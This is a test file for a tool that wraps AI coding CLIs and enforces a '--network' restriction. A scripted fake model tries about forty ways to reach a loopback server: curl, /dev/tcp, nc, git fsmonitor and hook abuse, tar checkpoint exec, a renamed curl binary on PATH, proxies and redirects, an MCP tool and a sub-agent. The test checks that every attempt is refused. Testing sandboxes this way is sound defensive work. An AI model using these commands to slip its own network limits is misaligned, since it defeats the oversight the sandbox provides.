// What `--network` holds to: a model that wants out by every way it has, and a server on loopback that would hear of it.
import { assert, describe, it } from "@effect/vitest"
import { createSocket } from "node:dgram"
import { appendFileSync, writeFileSync } from "node:fs"
import { createServer } from "node:net"
import { join } from "node:path"
import type { AddressInfo } from "node:net"
import { claude } from "./cli/claude.ts"
import { codex } from "./cli/codex.ts"
import { copilot } from "./cli/copilot.ts"
import { gemini } from "./cli/gemini.ts"
import { opencode } from "./cli/opencode.ts"
import { callAgent, room, skips } from "./headlessRoom.ts"
import { changeJson, type RealCli } from "./hosted.ts"
import { type Reply, say, type ToolBlock } from "./model/FakeModel.ts"

/** What listens where nothing may go: the first line of each connection, and datagrams. */
const outside = async () => {
  const heard: Array<string> = []
  const server = createServer((socket) => {
    let text = ""
    const entry = heard.push("(a connection)") - 1
    socket.on("error", () => {})
    socket.on("data", (data) => {
      text += data.toString("latin1")
      heard[entry] = text.split("\r\n", 1)[0] ?? ""
      const at = /^GET \/to\/(\d+)/.exec(text)?.[1]
      const head =
        at === undefined
          ? "200 OK\r\nContent-Type: text/plain"
          : `302 Found\r\nLocation: http://127.0.0.1:${at}/led-on\r\nContent-Type: text/plain`
      socket.end(`HTTP/1.1 ${head}\r\nContent-Length: 3\r\nConnection: close\r\n\r\nout`)
    })
  })
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve))
  const { port } = server.address() as AddressInfo
  const datagrams = createSocket("udp4")
  datagrams.on("message", () => heard.push("(a datagram)"))
  await new Promise<void>((resolve) => datagrams.bind(port, "127.0.0.1", resolve))
  return {
    heard,
    port,
    close: () => {
      datagrams.close()
      server.close()
    }
  }
}

/** Commands that reach out, each in its own way; some of them write first what then runs. */
const ways = (port: number): ReadonlyArray<string> => {
  const at = `127.0.0.1:${port}`
  const url = `http://${at}`
  return [
    `curl -s ${url}/curl`,
    `/usr/bin/curl -s ${url}/by-its-path`,
    `wget -qO- ${url}/wget`,
    `python3 -c "import urllib.request as u; u.urlopen('${url}/python')"`,
    `python3 -c "import socket as s; s.socket(s.AF_INET, s.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', ${port}))"`,
    `node -e "fetch('${url}/node')"`,
    `perl -MIO::Socket::INET -e 'IO::Socket::INET->new("${at}")'`,
    `git fetch ${url}/fetch`,
    `git ls-remote ${url}/ls-remote`,
    `git clone ${url}/clone`,
    `git remote show ${url}/remote`,
    `git -c core.fsmonitor='curl ${url}/fsmonitor' status`,
    `git -c core.pager='curl ${url}/pager' -p log`,
    `git grep -O'curl ${url}/grep' small`,
    `GIT_EXTERNAL_DIFF='curl ${url}/diff' git diff`,
    `git config core.fsmonitor 'curl ${url}/config'; git status`,
    `timeout 9 ssh -p ${port} -o StrictHostKeyChecking=no -o BatchMode=yes 127.0.0.1 true`,
    `timeout 9 scp -P ${port} -o StrictHostKeyChecking=no README.md 127.0.0.1:/tmp/x`,
    `bash -c 'echo x > /dev/tcp/127.0.0.1/${port}'`,
    `cat < /dev/tcp/127.0.0.1/${port}`,
    `sh -c 'curl -s ${url}/inner'`,
    `env curl -s ${url}/env`,
    `echo ${url}/xargs | xargs curl -s`,
    `find . -name README.md -exec curl -s ${url}/find ';'`,
    `awk 'BEGIN { while (("curl -s ${url}/awk" | getline line) > 0) print line }'`,
    `sed '1e curl -s ${url}/sed' README.md`,
    `C=curl; $C -s ${url}/variable`,
    `eval "curl -s ${url}/eval"`,
    `printf 'curl -s ${url}/piped' | sh`,
    `echo 'curl -s ${url}/script' > run.sh && sh run.sh`,
    `printf 'all:\\n\\tcurl -s ${url}/make\\n' > Makefile && make`,
    `mkdir -p bin && cp /usr/bin/curl bin/ls && bin/ls -s ${url}/copied`,
    `cp /usr/bin/curl ls && PATH=.:$PATH ls -s ${url}/path`,
    `printf '#!/bin/sh\\ncurl -s ${url}/hook\\n' > .git/hooks/post-index-change && chmod +x .git/hooks/post-index-change && git add README.md`,
    `sort --compress-program='curl ${url}/sort' -S 1b README.md`,
    `tar cf x.tar --checkpoint=1 --checkpoint-action=exec='curl ${url}/tar' README.md`,
    `rsync -e 'curl ${url}/rsync' README.md 127.0.0.1:/tmp/x`,
    `(curl -s ${url}/later &) ; sleep 1`,
    `timeout 9 npm view left-pad --registry ${url}/npm`,
    `timeout 9 pip download --index-url ${url}/pip left-pad`,
    `nc -w 1 127.0.0.1 ${port} < README.md`,
    `timeout 9 openssl s_client -connect ${at} < /dev/null`
  ]
}

/** The model wants a command run, without leave for more than its sandbox has. */
const runs = (cli: RealCli, cmd: string): Reply => {
  if (cli !== codex) return cli.shell(cmd)
  const instead: ToolBlock = { type: "tool", name: "exec_command", input: { cmd } }
  const input = `const r = await tools.exec_command(${JSON.stringify({ cmd })});\ntext(r.output ?? JSON.stringify(r));`
  return { blocks: [{ type: "tool", name: "exec", freeform: true, input, instead }] }
}

const fetching: Readonly<Record<string, (url: string) => { readonly name: string; readonly input: object }>> = {
  claude: (url) => ({ name: "WebFetch", input: { url, prompt: "What is there?" } }),
  gemini: (url) => ({ name: "web_fetch", input: { prompt: `What is at ${url} ?` } }),
  copilot: (url) => ({ name: "web_fetch", input: { url } }),
  opencode: (url) => ({ name: "webfetch", input: { url, format: "text" } })
}

const searching: Readonly<Record<string, { readonly name: string; readonly input: object }>> = {
  claude: { name: "WebSearch", input: { query: "a secret" } },
  gemini: { name: "google_web_search", input: { query: "a secret" } }
}

const tool = (block: { readonly name: string; readonly input: object }): Reply => ({
  blocks: [{ type: "tool", ...block }]
})

/** A server of tools whose one tool reaches out. */
const reaching = (file: string, port: number) => {
  writeFileSync(
    file,
    `const say = (id, result) => process.stdout.write(JSON.stringify({ jsonrpc: "2.0", id, result }) + "\\n")
let rest = ""
process.stdin.on("data", (data) => {
  const lines = (rest + data).split("\\n")
  rest = lines.pop()
  for (const line of lines) {
    const { id, method, params } = JSON.parse(line)
    if (method === "initialize")
      say(id, { protocolVersion: params.protocolVersion, capabilities: { tools: {} }, serverInfo: { name: "lab", version: "1" } })
    else if (method === "tools/list")
      say(id, { tools: [{ name: "reach", description: "Reaches out", inputSchema: { type: "object", properties: {} } }] })
    else if (method === "tools/call")
      fetch("http://127.0.0.1:${port}/by-a-server").then((r) => r.text()).then((text) => say(id, { content: [{ type: "text", text }] }))
    else if (id !== undefined) say(id, {})
  }
})
`
  )
  return { command: process.execPath, args: [file] }
}

/** How each is told of the server, and the model's call of its tool. */
const served = (
  cli: RealCli,
  home: string,
  project: string,
  server: { readonly command: string; readonly args: ReadonlyArray<string> }
): Reply => {
  switch (cli.id) {
    case "claude": {
      changeJson(join(home, ".claude.json"), (now) => {
        const projects = now["projects"] as Readonly<Record<string, object>>
        const own = { ...projects[project], mcpServers: { lab: { type: "stdio", ...server } } }
        return { ...now, projects: { ...projects, [project]: own } }
      })
      changeJson(join(home, ".claude/settings.json"), (now) => ({
        ...now,
        permissions: { allow: ["mcp__lab__reach"] }
      }))
      return tool({ name: "mcp__lab__reach", input: {} })
    }
    case "codex": {
      const table = `command = ${JSON.stringify(server.command)}\nargs = ${JSON.stringify(server.args)}\n`
      appendFileSync(join(home, ".codex/config.toml"), `\n[mcp_servers.lab]\n${table}`)
      const input = "const r = await tools.mcp__lab__reach({});\ntext(JSON.stringify(r));"
      return { blocks: [{ type: "tool", name: "exec", freeform: true, input }] }
    }
    case "gemini":
      changeJson(join(home, ".gemini/settings.json"), (now) => ({
        ...now,
        mcpServers: { lab: { ...server, trust: true } }
      }))
      return tool({ name: "mcp_lab_reach", input: {} })
    case "copilot":
      writeFileSync(
        join(home, ".copilot/mcp-config.json"),
        JSON.stringify({ mcpServers: { lab: { type: "local", tools: ["*"], ...server } } })
      )
      return tool({ name: "lab-reach", input: {} })
    default:
      changeJson(join(home, ".config/opencode/opencode.json"), (now) => ({
        ...now,
        mcp: { lab: { type: "local", enabled: true, command: [server.command, ...server.args] } }
      }))
      return tool({ name: "lab_reach", input: {} })
  }
}

const clis = [claude, codex, gemini, copilot, opencode].map((cli) => [cli.id, cli] as const)

describe.each(clis)("leap exec --network with %s", (_, cli) => {
  it("none: nothing goes out, whatever the model tries", () =>
    room(cli, "network", async ({ api, exec, home, leap, project }) => {
      const out = await outside()
      try {
        const reach = served(cli, home, project, reaching(join(home, "reach.mjs"), out.port))
        api.otherwise = say("Nothing more.")
        // without the option each of these would get there
        const skip = cli === codex ? [] : skips(cli)
        const wants = cli === codex ? [] : [cli.shell(`curl -s http://127.0.0.1:${out.port}/control`)]
        api.script(...wants, reach, say("Done."))
        const free = await exec(...(cli === codex ? skips(cli) : skip), "try it")
        assert.strictEqual(free.code, 0, free.err)
        assert.include(out.heard.join("\n"), "by-a-server", `${free.err}${JSON.stringify(free.document)}`)
        if (cli !== codex) assert.include(out.heard.join("\n"), "control")
        api.forget()
        out.heard.length = 0

        const unwired = await exec("--network", "none", ...skip, "try it")
        assert.strictEqual(unwired.code, 2, unwired.err)
        assert.match(unwired.err, /network: .*leap hooks install/)
        assert.strictEqual((await leap(["hooks", "install", "--cli", cli.id])).code, 0)

        const fetch = fetching[cli.id]
        const search = searching[cli.id]
        const tries: ReadonlyArray<Reply> = [
          ...ways(out.port).map((way) => runs(cli, way)),
          ...(fetch === undefined ? [] : [tool(fetch(`http://127.0.0.1:${out.port}/fetched`))]),
          ...(search === undefined ? [] : [tool(search)]),
          reach,
          ...(cli === codex ? [] : [callAgent(cli), runs(cli, `curl -s http://127.0.0.1:${out.port}/by-an-agent`)])
        ]
        // not all at once: a run has its bound, and some of these take their time
        for (let at = 0; at < tries.length; at += 12) {
          const some = tries.slice(at, at + 12)
          const before = api.main.length
          // a slow machine's hook may have no answer in time, and refuses then
          const looks = Array.from({ length: 3 }, () => runs(cli, "cat README.md"))
          api.script(...looks, ...some, say("I tried."), say("I tried."))
          const tried = await exec("--network", "none", ...skip, "try it")
          const results = api.main.slice(before).map(({ toolResults }) => toolResults.join("\n"))
          api.forget()
          assert.strictEqual(tried.code, 0, `${tried.err}\n${results.join("\n---\n")}`)
          assert.deepStrictEqual(out.heard, [], results.join("\n---\n"))
          assert.isAtLeast(results.length, some.length, "each was tried")
          assert.include(results.join("\n"), "A small project")
          if (cli === codex) continue
          // each was refused by name, and not only vain; an agent is none of them
          const refused = tried.document["refused"] as ReadonlyArray<{ readonly why: string }>
          assert.isAtLeast(refused.length, some.length - 1, JSON.stringify(refused, null, 1))
        }
      } finally {
        out.close()
      }
    }))

  it("stays with a conversation until a turn lifts it, and is said at the start of each turn", () =>
    room(cli, "network-kept", async ({ api, leap, project }) => {
      const out = await outside()
      try {
        assert.strictEqual((await leap(["hooks", "install", "--cli", cli.id])).code, 0)
        const chat = ["chat", "--provider", cli.id, "--cwd", project, "--state", join(project, "talk.json")]
        const turn = async (...words: ReadonlyArray<string>) => {
          api.script(runs(cli, `curl -s http://127.0.0.1:${out.port}/kept`), say("Done."))
          const skip = cli === codex && !words.includes("any") ? [] : skips(cli)
          const ran = await leap([...chat, "--output", "stream-json", ...skip, ...words, "go on"])
          assert.strictEqual(ran.code, 0, ran.err)
          api.forget()
          const events = ran.out
            .trimEnd()
            .split("\n")
            .map((line) => JSON.parse(line) as Record<string, unknown>)
          return events.find(({ _tag }) => _tag === "Started")?.["restrictions"] ?? null
        }
        assert.deepStrictEqual(await turn("--network", "none"), ["--network none"])
        assert.deepStrictEqual(await turn(), ["--network none"])
        assert.deepStrictEqual(out.heard, [])
        assert.deepStrictEqual(await turn("--network", "any"), ["--network any"])
        assert.deepStrictEqual(out.heard, ["GET /kept HTTP/1.1"])
      } finally {
        out.close()
      }
    }))

  it("hosts: those alone, and none that they lead on to", () =>
    room(cli, "network-hosts", async ({ api, exec, leap }) => {
      const [near, far] = [await outside(), await outside()]
      try {
        assert.strictEqual((await leap(["hooks", "install", "--cli", cli.id])).code, 0)
        const own = `127.0.0.1:${near.port}`
        const url = `http://${own}`
        const led = `${url}/to/${far.port}`
        api.otherwise = say("Nothing more.")
        const tries = [
          ...Array.from({ length: 3 }, () => `curl -s ${url}/near`),
          `curl -s http://127.0.0.1:${far.port}/far`,
          `curl -sL ${led}`,
          `curl ${led} --location`,
          `curl -s ${url}/a http://127.0.0.1:${far.port}/second`,
          `curl -s --resolve near:80:127.0.0.1 ${url}/b`,
          `curl -s -x http://127.0.0.1:${far.port} ${url}/by-a-proxy`,
          `curl -s http://${own}@127.0.0.1:${far.port}/name`,
          `printf 'proxy = http://127.0.0.1:${far.port}\\n' > .curlrc; curl -s -K .curlrc ${url}/c`,
          `wget -qO- ${url}/other-program`
        ]
        const fetch = fetching[cli.id]
        api.script(
          ...tries.map((command) => runs(cli, command)),
          ...(fetch === undefined ? [] : [tool(fetch(`http://127.0.0.1:${far.port}/f`)), tool(fetch(led))]),
          say("I tried.")
        )
        const ran = await exec("--network", own, ...(cli === codex ? [] : skips(cli)), "try it")
        if (cli === codex) {
          assert.strictEqual(ran.code, 2, ran.err)
          assert.match(ran.err, /network: OpenAI Codex cuts off all of the network or nothing of it/)
          return assert.strictEqual(api.main.length, 0)
        }
        const results = api.main.map(({ toolResults }) => toolResults.join("\n")).join("\n---\n")
        assert.strictEqual(ran.code, 0, ran.err)
        assert.deepStrictEqual(far.heard, [], results)
        assert.deepStrictEqual([...new Set(near.heard)], ["GET /near HTTP/1.1"], results)
      } finally {
        near.close()
        far.close()
      }
    }))
})
